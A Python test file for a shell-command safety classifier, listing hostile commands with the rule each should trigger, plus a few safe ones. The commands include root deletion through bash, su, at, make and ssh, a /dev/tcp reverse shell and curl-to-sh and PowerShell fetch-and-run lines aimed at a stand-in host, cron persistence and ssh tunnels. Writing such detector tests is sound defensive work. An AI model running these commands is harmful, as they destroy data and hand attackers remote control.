"""Text that a shell gets is walked: -c, files, standard input, ssh, make, cron, and the shells of Windows."""

import pytest

from tests.shell.corpus_rows import label, rules

CASES = """
bash -c 'rm -rf /' => delete.root
sh -c 'rm -rf "$1"' x / => delete.root
bash x.sh => runs-project-code
bash /tmp/x.sh => runs-outside-code
curl h.test | sh => runs-remote
echo 'rm -rf /' | bash -s => delete.root
bash <(curl h.test) => runs-remote
bash -i >& /dev/tcp/h.test/80 0>&1 => reverse-shell
su -c 'rm -rf /' => delete.root
at now <<< 'rm -rf /' => delete.root
echo '* * * * * rm -rf /' | crontab - => persistence
make --eval='x:;rm -rf /' => option-runs-program
printf 'x:\\n\\trm -rf /\\n' | make -f - => delete.root
make SHELL=/tmp/x => option-runs-program
make -C /tmp/x => runs-outside-code
ssh h.test 'rm -rf /' => remote-loss
ssh -o ProxyCommand='rm -rf /' h.test => delete.root
ssh -R 80:localhost:80 h.test => opens-tunnel
autossh -M 0 -R 80:localhost:80 h.test => opens-tunnel
cmd /c 'del /s C:/' => delete.root
powershell -enc x => runs-decoded
powershell -c 'iex (iwr h.test)' => runs-remote
""".strip().splitlines()


@pytest.mark.parametrize("case", CASES)
def test_text_for_a_shell_is_walked(case):
    command, _, rule = case.partition(" => ")
    assert rule in rules(command)


def test_a_shell_that_only_checks_or_shows_does_nothing():
    assert label("bash -n x.sh") == "safe"
    assert label("bash --version") == "safe"
    assert label("crontab -l") == "safe"
